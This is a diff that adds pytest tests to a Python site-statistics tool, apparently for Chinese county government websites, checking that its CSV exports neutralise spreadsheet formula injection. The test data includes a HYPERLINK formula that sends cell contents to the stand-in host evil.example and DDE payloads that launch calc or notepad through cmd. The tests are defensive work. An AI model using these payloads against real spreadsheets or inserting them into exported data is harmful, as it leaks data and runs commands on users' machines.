@@ -226,3 +226,64 @@ def history(tmp_path) -> Repo:
     repo.commit("2025-03-01", {"content/xzf/zwyw/a.md": news("春耕生产", "2025-03-01", source="示例县人民政府")})
     repo.commit("2025-06-01", {"content/qingshan/gzdt/b.md": news("青山镇夏收", "2025-06-01")})
     return repo
+
+
+# -- 2. formula cells in the CSVs ------------------------------------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "=cmd|' /C notepad'!'A1'"]
+
+
+def _cells(data: str) -> list[list[str]]:
+    assert data.startswith("\ufeff")
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(data[1:], newline="")))
+
+
+def _no_formula(rows: list[list[str]]) -> None:
+    """What Excel and LibreOffice look at, without either: no cell of the file starts (after spaces) like a
+    formula."""
+    for number, row in enumerate(rows, 1):
+        for cell in row:
+            first = cell.lstrip(" \n\u3000")[:1]
+            assert not first or first not in "=+-@\t\r＝＋－＠", (number, cell)
+
+
+@pytest.mark.parametrize("evil", FORMULAS)
+def test_a_cell_that_starts_like_a_formula_is_written_as_text(evil):
+    from zhanqun.stats import publishing
+
+    rows = _cells(publishing.csv_text([["名称", "数值"], [evil, 3], ["示例县发布", -1.5]]))
+    assert rows[1] == ["'" + evil, "3"]  # the words are kept, after the ' a spreadsheet does not show
+    assert rows[2] == ["示例县发布", "-1.5"]  # a number is a number (only text is escaped)
+    _no_formula(rows[:2])
+
+
+def test_the_ranking_csv_escapes_a_unit_name_that_is_a_formula():
+    """R8.3: unit names come from unit.yaml, which any editor of the unit may change."""
+    from zhanqun.stats import page, ranking
+
+    entries = [ranking.Entry("qingshui", evil, None, 0, 0, None, {m: None for m in ranking.MEASURES}, 50.0, 1)
+               for evil in FORMULAS]
+    table = ranking.Ranking(2026, "=示例县", "0" * 40, dt.date(2026, 12, 31), {"updates": 40}, entries, True)
+    rows = _cells(page.as_csv(table))
+    assert [row[2] for row in rows[1:]] == ["'" + evil for evil in FORMULAS]
+    _no_formula(rows)
+
+
+def test_the_annual_csv_escapes_filled_texts_and_names_that_are_formulas(history):
+    """R8.4: the fill-in file's texts (微博名称, 其他 …) as ``--format csv`` writes them and ``--publish`` publishes."""
+    fill = history.root / "content/xzf/annual-report/2025.yaml"
+    fill.parent.mkdir(parents=True)
+    fill.write_text("网站:\n  xzf:\n    是否有移动新媒体: 是\n    微博名称: '=HYPERLINK(\"http://evil.example\",\"示例\")'\n"
+                    "    微信名称: '@SUM(A1:A9)'\n    其他创新: \"\\t=1+1\"\n    单位负责人: '-3+3'\n", encoding="utf-8")
+    result = _run("annual-report", "2025", "www", "--root", history.root, "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    rows = _cells(result.stdout.rstrip("\n"))
+    values = {(group, label): value for _, group, label, value, _ in rows[1:]}
+    assert values[("移动新媒体·微博", "名称")] == "'=HYPERLINK(\"http://evil.example\",\"示例\")"
+    assert values[("移动新媒体·微信", "名称")] == "'@SUM(A1:A9)"
+    assert values[("创新发展", "其他")] == "'\t=1+1" and values[("", "单位负责人")] == "'-3+3"
+    _no_formula(rows)
